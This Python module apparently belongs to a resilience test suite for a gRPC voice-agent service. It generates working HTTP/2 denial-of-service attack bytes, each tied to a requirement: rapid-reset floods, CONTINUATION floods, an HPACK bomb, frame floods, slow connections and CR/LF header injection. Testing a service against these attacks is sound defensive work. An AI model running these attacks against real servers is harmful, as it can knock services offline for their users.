"""The attacks of the suite as bytes: each with the rule that it tries, and how it is sent.

Where requirements give figures (20,000 resets a second, 64 MB of CONTINUATION), these are they; a flood is 180 Mbit/s.
"""

import dataclasses
import functools
import itertools
import random
import struct
import uuid

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
    WindowUpdateFrame,
)

from frames import CHECK, PREFACE, frame, prefix
from schemas import PROCESS_CALLER_INPUT, SESSION_START, voice

FLOOD = 180e6 / 8  # bytes a second
MEGABYTE = 1 << 20
WATCH = "/grpc.health.v1.Health/Watch"
METHODS = [
    PROCESS_CALLER_INPUT,
    "/com.cisco.wcc.ccai.media.v1.VoiceVirtualAgent/ListVirtualAgents",
    "/com.cisco.wcc.ccai.media.v1.ConversationAudio/StreamConversationAudio",
    "/com.cisco.wcc.ccai.media.v1.MultiMedia/StreamControl",
    "/com.cisco.wcc.ccai.media.v1.MultiMedia/StreamMedia",
    "/com.cisco.wcc.ccai.v1.Health/Check",
    "/com.cisco.wcc.ccai.v1.Health/Watch",
    CHECK,
    WATCH,
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    "/com.cisco.wcc.ccai.media.v1.Nothing/Nothing",
]


@dataclasses.dataclass
class Attack:
    """What is sent on each of so many connections: the beginning once, then the rest."""

    name: str
    rule: str  # of the requirements
    beginning: bytes | list[bytes]  # of a list, each connection has the next one
    rest: bytes = b""
    repeats: bool = True  # the rest, until the end; otherwise the connection is given up, and another begins
    rate: float | None = None  # bytes a second of all connections together; None: as fast as they are taken
    connections: int = 1
    opens: int = 100  # new connections a second
    sources: int = 1  # addresses that they come from
    life: float | None = None  # seconds after which a connection is given up and another begins
    reads: bool = True
    tls: bool = True
    slow_start: bool = False  # the beginning at the rate, too
    files: int | None = None  # that the server may have open

    def plan(self, address, folder, seconds, sources):
        """What `attack_sender.py` reads, with the bytes in files beside it."""
        folder.mkdir(exist_ok=True)
        beginnings = self.beginning if isinstance(self.beginning, list) else [self.beginning]
        for name, data in [*enumerate(beginnings), ("rest", self.rest)]:
            (folder / str(name)).write_bytes(data)
        return {
            "address": address, "seconds": seconds, "sources": sources[:self.sources], "tls": self.tls,
            "connections": self.connections, "opens": self.opens, "life": self.life, "reads": self.reads,
            "rate": self.rate / self.connections if self.rate else None, "repeats": self.repeats,
            "slow_start": self.slow_start, "rest": str(folder / "rest"),
            "beginnings": [str(folder / str(number)) for number in range(len(beginnings))]}


class Client:
    """Makes a client's bytes: its header blocks grow small by HPACK's dynamic table, as an attacker's do."""

    def __init__(self):
        self.encoder = Encoder()
        self.stream = -1
        self.start = PREFACE + SettingsFrame(0).serialize()

    def headers(self, path, *more, flags=("END_HEADERS",)):
        self.stream += 2
        fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
                  ("te", "trailers"), ("content-type", "application/grpc"), *more]
        return HeadersFrame(self.stream, self.encoder.encode(fields), flags=flags).serialize()

    def block(self, data, flags=("END_HEADERS", "END_STREAM")):
        """A header block as it is."""
        self.stream += 2
        return HeadersFrame(self.stream, data, flags=flags).serialize()

    def data(self, payload, ends=False):
        return DataFrame(self.stream, payload, flags=("END_STREAM",) if ends else ()).serialize()

    def reset(self):
        return RstStreamFrame(self.stream, 8).serialize()


def session_start(org):
    """The first message of a conversation that nobody has heard of."""
    return voice.VoiceVARequest(
        conversation_id=str(uuid.UUID(int=random.getrandbits(128))), customer_org_id=org, virtual_agent_id="demo-wav",
        event_input={"event_type": SESSION_START}).SerializeToString()


def message(data):
    return prefix(len(data)) + data


def many(make, count):
    """A connection's bytes with so many RPCs: `make(client)` gives one's."""
    client = Client()
    return client.start, b"".join(make(client) for _ in range(count))


def floods():
    """H11: frames that cost their sender next to nothing, 180 Mbit/s for as long as it lasts."""
    kinds = {
        "GOAWAY": GoAwayFrame(0).serialize(),
        "WINDOW_UPDATE": WindowUpdateFrame(0, window_increment=1).serialize(),
        "PING": PingFrame(0, bytes(8)).serialize(),
        "SETTINGS": SettingsFrame(0, {4: 65_535}).serialize(),
        "PRIORITY": PriorityFrame(1, depends_on=0, stream_weight=1).serialize(),
        "unknown frames, empty": frame(0xBB),
        "unknown frames, 16 KB": frame(0xBB, payload=bytes(16_000)),
    }
    for name, one in kinds.items():
        yield Attack(f"flood: {name}", "H11", Client().start, one * (MEGABYTE // len(one) + 1), rate=FLOOD)
    client = Client()
    beginning = client.start + client.headers(CHECK)
    yield Attack("flood: empty DATA", "H11", beginning, client.data(b"") * 100_000, rate=FLOOD)
    yield Attack("flood: PING from a client that reads nothing", "H11", Client().start,
                 PingFrame(0, bytes(8)).serialize() * 60_000, rate=FLOOD, reads=False)


def resets(credentials):
    """H1: 20,000 streams a second from four connections."""
    for name, more in credentials.items():
        start, rest = many(lambda c, more=more: c.headers(PROCESS_CALLER_INPUT, *more) + c.reset(), 30_000)
        yield Attack(f"rapid reset, {name}", "H1", start, rest, repeats=False, connections=4,
                     rate=20_000 * len(rest) / 30_000)


def header_blocks():
    """H2, H3: header blocks without end, with errors, and such as grow when they are read."""
    client = Client()
    beginning = client.start + client.headers(CHECK, flags=())
    yield Attack("CONTINUATION without end", "H2", beginning,
                 ContinuationFrame(1, b"\0\1a\1b" * 3000).serialize() * 64, rate=FLOOD)
    yield Attack("CONTINUATION without end, empty frames", "H2", beginning,
                 ContinuationFrame(1, b"").serialize() * 100_000, rate=FLOOD)
    oddities = {
        "index 0": b"\x80", "a huge index": b"\xff\xff\xff\xff\xff\x0f", "a varint with leading zeros":
        b"\xff" + b"\x80" * 10_000 + b"\0", "a table of 4 GB": b"\x3f\xe1\xff\xff\xff\x0f",
        "bad Huffman": b"\x40\x84\xff\xff\xff\xff\1a", "table sizes without end": b"\x20" * 10_000,
    }
    yield Attack(f"HPACK: {', '.join(oddities)}", "H3", [
        (client := Client()).start + client.block(block) for block in oddities.values()],
        connections=20, opens=200, life=0.05)
    client = Client()
    # One field of 3 KB, then 4,000 references to it in a block of 4 KB: 12 MB for each.
    bomb = client.block(b"\x40\1x" + b"\x7f\xb9\x16" + b"a" * 3000) + b"".join(
        client.block(b"\xbe" * 4000) for _ in range(500))
    yield Attack("HPACK bomb", "H3", client.start, bomb, repeats=False, rate=FLOOD)


def messages(token):
    """H4, H5: messages that say that they are giant, and such that grow when they are read."""
    for name, more in {"without a token": (), "with a token": (("authorization", token),)}.items():
        client = Client()
        beginning, rest = client.start, b""
        for method in METHODS:
            beginning += client.headers(method, *more) + client.data(prefix(1_000_000_000))
        for _ in range(8):
            for stream in range(1, client.stream + 2, 2):
                rest += DataFrame(stream, bytes(16_000)).serialize()
        yield Attack(f"1,000 MB declared on every method, {name}", "H4", beginning, rest, rate=FLOOD)
    client = Client()
    rest = b"".join(
        client.headers(PROCESS_CALLER_INPUT, ("authorization", token), ("grpc-encoding", encoding)) +
        client.data(b"\1" + struct.pack(">I", 60_000) + bytes(16_000), ends=True)
        for encoding in ["gzip", "deflate", "snappy", "identity"] * 100)
    yield Attack("compressed messages", "H5", client.start, rest, repeats=False, rate=2e6)


def slow(hello):
    """H8, H9: connections and RPCs that begin and do not go on."""
    client = Client()
    some = {"connections": 300, "opens": 200, "sources": 8}
    yield Attack("TCP and nothing else", "H8", b"", tls=False, **some)
    yield Attack("TLS byte by byte", "H8", hello, tls=False, rate=300 * 10, slow_start=True, **some)
    yield Attack("a preface and nothing else", "H8", client.start, **some)
    yield Attack("HEADERS that do not end", "H8", client.start + client.headers(CHECK, flags=()), **some)


def silent(credentials):
    """H8, H10: RPCs whose first message never comes, and answers that nobody reads."""
    for name, more in credentials.items():
        client = Client()
        yield Attack(f"a first message that never comes, {name}", "H8", client.start + b"".join(
            client.headers(PROCESS_CALLER_INPUT, *more) for _ in range(50)), connections=20, opens=20)


def unread(token, org):
    client = Client()
    beginning = client.start + SettingsFrame(0, {4: 0}).serialize()
    for _ in range(50):
        beginning += client.headers(PROCESS_CALLER_INPUT, ("authorization", token)) + client.data(
            message(session_start(org)), ends=True)
    yield Attack("answers that nobody reads", "H10", beginning, connections=10, opens=20, reads=False)


def metadata(token):
    """H12: metadata that is too much, or not what HTTP/2 allows."""
    plain = functools.partial(Client().encoder.encode, huffman=False)
    basic = [(":method", "POST"), (":scheme", "https"), (":path", CHECK), (":authority", "localhost"),
             ("te", "trailers"), ("content-type", "application/grpc")]
    cases = {
        "16 KB and one byte": basic + [(f"x-{n}", "v" * 1000) for n in range(16)] + [("x", "v" * 385)],
        "50 KB": basic + [(f"x-{n}", "v" * 1000) for n in range(50)],
        "200 empty headers": basic + [(f"x-{n}", "") for n in range(200)],
        "upper case": basic + [("X-Upper", "1")], "NUL": basic + [("x-nul", "a\0b")],
        "CR and LF": basic + [("x-line", "a\r\nb: c")], "two paths": basic[:3] + [(":path", "/x")] + basic[3:],
    }
    start, rest = Client().start, b""
    stream = itertools.count(1, 2)
    for fields in cases.values():
        for _ in range(10):
            block, number = plain([(n.encode(), v.encode()) for n, v in fields]), next(stream)
            parts = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
            for index, part in enumerate(parts):
                make = HeadersFrame if index == 0 else ContinuationFrame
                flags = (("END_STREAM",) if index == 0 else ()) + (("END_HEADERS",) if part is parts[-1] else ())
                rest += make(number, part, flags=flags).serialize()
    yield Attack("metadata of every wrong kind", "H12", start, rest, repeats=False, rate=4e6)


def strangers(credentials, org, count=100_000):
    """RPCs of conversations that nobody knows, each with an id of its own: 100,000 in six seconds."""
    connections = 4
    for name, more in credentials.items():
        def one(client, more=more):
            return client.headers(PROCESS_CALLER_INPUT, *more) + client.data(message(session_start(org)), ends=True)

        start, rest = many(one, count // connections)
        yield Attack(f"{count:,} RPCs with random conversation ids, {name}", "stick table", start, rest, repeats=False,
                     connections=connections, rate=connections * len(rest) / 6)


def connections():
    """H6, H7: connections without end, from one address and from many."""
    client = Client()
    yield Attack("1,000 connections of one address", "H7", client.start, connections=1000, opens=500)
    yield Attack("400 connections where the server may have 256 files", "H6",
                 client.start + client.headers(WATCH) + client.data(prefix(0), ends=True), connections=400, opens=400,
                 sources=16, files=256)


def attacks(token, refused, org, hello):
    """All of them. `token` is good, `refused` is not; `hello`: the bytes of a TLS client's first flight."""
    without, bad, good = (), (("authorization", refused),), (("authorization", token),)
    return [
        *resets({"without a token": without, "with a refused token": bad, "with a good token": good}),
        *header_blocks(), *messages(token), *connections(), *slow(hello),
        *silent({"without a token": without, "with a good token": good}), *unread(token, org), *floods(),
        *metadata(token), *strangers({"without a token": without, "with a refused token": bad}, org),
    ]
